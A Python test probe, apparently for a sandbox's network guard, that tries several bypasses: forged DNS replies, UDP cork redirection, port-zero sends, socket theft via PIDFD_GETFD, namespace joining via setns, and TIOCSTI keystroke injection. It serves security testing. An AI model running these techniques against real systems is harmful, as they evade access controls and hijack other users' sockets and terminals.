#!/usr/bin/python3
"""Tries a way past a guard that only who has read its source would look for, and says what came of it.

knowing.py WAY ADDRESS [MORE]
    lying-stub STUB         look allowed.example up at STUB, and lie to oneself from another port of STUB's address; then
                            reach ADDRESS, port 7, which the lie gave
    corked-lookup RESOLVER  the same by a query that is held back until its socket has been connected to RESOLVER, and goes
                            to a server of one's own
    port-zero               a datagram to ADDRESS, port 0, from a socket that has sent to somebody else since it was connected
    corked ALLOWED          (IPv6) a datagram to ADDRESS, port 7, that is held back until its socket is connected to ALLOWED
    stolen NAME UID         take a socket from a process of the user UID that listens at the abstract NAME, and reach ADDRESS,
                            port 7, by it
    joined - PATH UID       enter the user and network namespaces of one that listens at PATH
    joined-unnamed - PATH UID   the same by a descriptor of its user namespace, without saying what it is
    typed - TEXT            put TEXT and a newline into the terminal, as if typed by whoever sits there

Prints `reached`, or the name of the error. Exit code 0 or 1.
"""

import ctypes
import errno
import fcntl
import os
import socket
import struct
import sys

way, address, *rest = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)

# linux/udp.h, asm-generic/socket.h, asm/unistd.h, asm-generic/ioctls.h
UDP_CORK, SO_PEERPIDFD, PIDFD_GETFD, TIOCSTI = 1, 77, 438, 0x5412
QUERY = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\7allowed\7example\0" + struct.pack(">2H", 1, 1)
LIE = QUERY[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + QUERY[12:] + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4"


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def datagrams(host=None):
    family = socket.AF_INET6 if ":" in (host or address) else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.settimeout(3)
    if host:
        sock.bind((host, 0))
    return sock


def uncork(sock):
    sock.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 0)


def connect(sock):
    sock.settimeout(3)
    sock.connect((address, 7))
    sock.send(b"ping")
    assert sock.recv(9) == b"ping"


def lie(liar, to):
    liar.sendto(LIE + socket.inet_aton(address), to)


def process_behind(to, uid):
    """A descriptor of who listens there; and be that user from here on."""
    sock = socket.socket(socket.AF_UNIX)
    sock.connect(to)
    held = sock.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD)
    number = int(sock.recv(16))
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    return held, number


def go():
    if way == "lying-stub":
        (stub,) = rest
        asker, liar = datagrams("127.0.0.1"), datagrams(stub)
        asker.sendto(QUERY, (stub, 53))
        lie(liar, asker.getsockname())
        for _ in range(2):
            try:
                asker.recv(512)
            except TimeoutError:
                pass
        return connect(socket.socket())
    if way == "corked-lookup":
        (resolver,) = rest
        # Of IPv4 a connect changes where what is held back goes, too.
        asker, server = datagrams("::1"), datagrams("::1")
        asker.sendto(QUERY, socket.MSG_MORE, server.getsockname())
        asker.connect((resolver, 53))
        uncork(asker)
        try:
            _, who = server.recvfrom(512)
            # To hear it again.
            asker.connect(server.getsockname())
            lie(server, who)
            asker.recv(512)
        except TimeoutError:
            pass
        return connect(socket.socket())
    if way == "port-zero":
        sock, other = datagrams(), datagrams("127.0.0.1")
        sock.connect((address, 0))
        sock.sendto(b"nothing", other.getsockname())
        return sock.send(b"something for nobody's port")
    if way == "corked":
        (allowed,) = rest
        sock = datagrams("::")
        sock.sendto(b"held back", socket.MSG_MORE, (address, 7))
        sock.connect((allowed, 7))
        return uncork(sock)
    if way == "stolen":
        name, uid = rest
        held, number = process_behind("\0" + name, int(uid))
        taken = socket.socket(fileno=checked(libc.syscall(PIDFD_GETFD, held, number, 0)))
        return connect(taken)
    if way == "joined":
        path, uid = rest
        held, _ = process_behind(path, int(uid))
        # linux/sched.h: CLONE_NEWUSER, CLONE_NEWNET
        return checked(libc.setns(held, 0x10000000 | 0x40000000))
    if way == "joined-unnamed":
        path, uid = rest
        held, _ = process_behind(path, int(uid))
        # linux/pidfd.h: PIDFD_GET_USER_NAMESPACE
        return checked(libc.setns(fcntl.ioctl(held, 0xFF09), 0))
    if way == "typed":
        (text,) = rest
        for octet in text + "\n":
            fcntl.ioctl(0, TIOCSTI, octet.encode())
        return None
    raise SystemExit("knowing.py: which way?")


try:
    go()
except TimeoutError:
    print("timeout")
    sys.exit(1)
except OSError as error:
    print(errno.errorcode.get(error.errno, error))
    sys.exit(1)
print("reached")
